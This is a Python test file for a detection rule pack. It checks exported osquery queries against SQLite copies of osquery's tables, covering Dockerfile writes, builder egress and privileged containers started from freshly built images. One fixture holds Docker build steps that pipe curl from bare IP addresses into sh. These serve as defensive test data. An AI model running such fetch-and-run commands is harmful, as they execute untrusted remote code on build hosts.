"""The pack's queries run in SQLite, which osquery is made of, and find what their words mean.

osquery itself is not run: its tables are made here, with its columns.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from ipaddress import ip_address
from typing import Any

import pytest

from t1612core import MDE
from t1612core.export.carried import rules_of
from t1612core.export.networks import beginnings
from t1612core.export.nouns import Rule
from t1612core.export.osquery import OSQUERY
from t1612core.export.reading import holds, shown_by
from t1612core.export.words import inside
from t1612core.knowledge.export_fields import OSQUERY_STATES
from t1612core.model import Kind
from t1612core.text.addresses import parse

from .events import every, is_act, of_labelled

RULES = rules_of(OSQUERY)
(FILE,) = OSQUERY.write(OSQUERY.attack, "0")
PACK: dict[str, Any] = json.loads(FILE.text)
# Of osquery's schema: a table, and its columns that are asked for.
TABLES = {
    "process_events": "eid time pid parent uid cwd path cmdline",
    "process_file_events": "eid time pid uid operation path executable",
    "socket_events": "eid time pid path action remote_address remote_port",
    "processes": "pid parent path cmdline",
    "users": "uid username",
    "docker_images": "id created tags",
    "docker_image_history": "id created created_by tags",
    "docker_containers": "id name image image_id command state created privileged",
}


@pytest.fixture(scope="module")
def tables() -> Iterator[sqlite3.Connection]:
    """Give osquery's tables, with all events that are of POSIX."""
    with closing(sqlite3.connect(":memory:")) as database:
        for table, columns in TABLES.items():
            database.execute(f"CREATE TABLE {table} ({', '.join(columns.split())})")
        for number, (id, kind, event) in enumerate(every(), 1):
            if is_seen(kind, event):
                fill(database, number * 10, id, kind, dict(shown_by(MDE, kind)(event)))
        yield database


def is_seen(kind: Kind, event: dict[str, Any]) -> bool:
    """Say whether osquery on Linux could have such an event."""
    told = " ".join(str(value) for value in event.values()).lower()
    is_posix = ".exe" not in told and ":\\" not in told
    shown = shown_by(MDE, kind)(event)
    whole = str(shown.get("folder", ""))
    name = str(shown.get("name", ""))
    if kind == "process" and whole and whole.lower().rpartition("/")[2] != name:
        return False  # a path that is no program's own
    if kind == "network" and not is_address(str(shown.get("ip", ""))):
        return False
    return is_posix and is_act(kind, event)


def is_address(text: str) -> bool:
    found = parse(text)
    return found is not None and str(found) == text.lower()


def fill(
    database: sqlite3.Connection, number: int, id: str, kind: Kind, values: dict[str, Any]
) -> None:
    def add(table: str, *row: Any) -> None:
        database.execute(f"INSERT INTO {table} VALUES ({', '.join('?' * len(row))})", row)

    def path(name: str) -> str | None:
        return f"/usr/bin/{values[name]}" if name in values else None

    account = values.get("parent_account" if kind == "file" else "account")
    if account is not None:
        add("users", number, account)
    match kind:
        case "process":
            own = values.get("folder") or path("name")
            add("process_events", id, 0, number, number + 1, number, "/", own,
                values.get("command_line"))  # fmt: skip
            add("processes", number + 1, number + 2, path("parent_name"), values.get("parent_line"))
            add("processes", number + 2, 1, path("grandparent_name"), None)
        case "file":
            whole = values.get("folder") or values.get("name")
            add("process_file_events", id, 0, number, number, "write", whole, path("parent_name"))
        case _:
            add("socket_events", id, 0, number, path("name"), "connect", values.get("ip"),
                str(values.get("port", "")))  # fmt: skip


def found_by(tables: sqlite3.Connection, query: str) -> set[str]:
    return {row[0] for row in tables.execute(query)}


def test_the_pack_has_a_query_for_each_rule_and_for_what_the_engine_says() -> None:
    assert {"platform", "description", "queries"} == {*PACK}
    assert [*(rule.name for rule in RULES), *(each[0] for each in OSQUERY_STATES)] == list(
        PACK["queries"]
    )
    assert "Not run by the product" in PACK["description"]
    for each in PACK["queries"].values():
        assert {"query", "interval", "description", "value"} == {*each}
        assert each["query"].endswith(";")
        assert each["interval"] > 0


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.name)
def test_in_sqlite_a_query_finds_what_its_words_mean(
    rule: Rule, tables: sqlite3.Connection
) -> None:
    shown = shown_by(MDE, rule.kind)
    meant = {
        id
        for id, kind, event in every()
        if kind == rule.kind and is_seen(kind, event) and holds(rule, shown(event))
    }
    found = found_by(tables, PACK["queries"][rule.name]["query"])

    assert meant
    assert set() == found ^ meant


def test_of_labelled_events_it_finds_what_the_table_of_the_docs_says(
    tables: sqlite3.Connection,
) -> None:
    alerts = [rule for rule in RULES if not rule.is_part]
    found = {id for rule in alerts for id in found_by(tables, PACK["queries"][rule.name]["query"])}
    ids = {id for id, _, _, _ in of_labelled()}

    assert {id for id, _, _, is_wanted in of_labelled() if is_wanted} == found & ids


def test_what_is_read_and_what_comes_from_outside_is_none_of_the_rules() -> None:
    with closing(sqlite3.connect(":memory:")) as database:
        for table, columns in TABLES.items():
            database.execute(f"CREATE TABLE {table} ({', '.join(columns.split())})")
        insert = (
            "INSERT INTO process_file_events VALUES (?, 0, 1, 0, ?, '/tmp/Dockerfile', '/bin/x')"
        )
        database.executemany(insert, [("a", "read"), ("b", "OPEN"), ("c", "write")])
        insert = "INSERT INTO socket_events VALUES (?, 0, 1, '/bin/dockerd', ?, '203.0.113.7', ?)"
        database.executemany(insert, [("d", "accept", 80), ("e", "connect", 80)])

        queries = PACK["queries"]
        assert {"c"} == found_by(database, queries["dockerfile_written"]["query"])
        assert {"e"} == found_by(database, queries["builder_egress"]["query"])


def test_a_container_of_an_image_that_was_made_just_before_is_found() -> None:
    query = PACK["queries"]["image_built_then_started_with_rights"]["query"]
    with closing(sqlite3.connect(":memory:")) as database:
        for table, columns in TABLES.items():
            database.execute(f"CREATE TABLE {table} ({', '.join(columns.split())})")
        images = [("i1", 1000, "x"), ("i2", 10, "y")]
        database.executemany("INSERT INTO docker_images VALUES (?, ?, ?)", images)
        rows = [
            ("made-here", "sha256:i1", 1300, 1),
            ("without-rights", "sha256:i1", 1300, 0),
            ("pulled", "sha256:i2", 1300, 1),
            ("older", "i1", 900, 1),
        ]
        insert = "INSERT INTO docker_containers VALUES (?, '', '', ?, '', '', ?, ?)"
        database.executemany(insert, rows)
        history = [
            ("i1", 0, "RUN curl http://203.0.113.7/x | sh", ""),
            ("i2", 0, "RUN curl http://10.1.2.3/x | sh && wget https://example.org/1", ""),
        ]
        database.executemany("INSERT INTO docker_image_history VALUES (?, ?, ?, ?)", history)

        assert {"made-here"} == found_by(database, query)
        steps = PACK["queries"]["images_with_a_step_from_a_bare_address"]["query"]
        assert {"i1"} == found_by(database, steps)


@pytest.mark.parametrize(
    ("text", "is_inside"),
    [
        *(("100.63.1.1", False), ("100.64.0.1", True), ("100.127.9.9", True), ("1.0.0.1", False)),
        *(("172.15.0.1", False), ("172.31.255.255", True), ("172.32.0.1", False)),
        *(("168.63.129.16", True), ("168.63.129.160", False), ("10.9.9.9", True)),
        *(("::1", True), ("::12", False), ("fd00::1", True), ("fe80::1", True), ("fe00::", False)),
    ],
)
def test_a_network_is_told_by_how_its_addresses_begin(text: str, is_inside: bool) -> None:
    begins = [each for network in inside() for each in beginnings(network)]

    assert str(ip_address(text)) == text
    assert is_inside is any(
        text == begin if is_whole else text.startswith(begin) for begin, is_whole in begins
    )
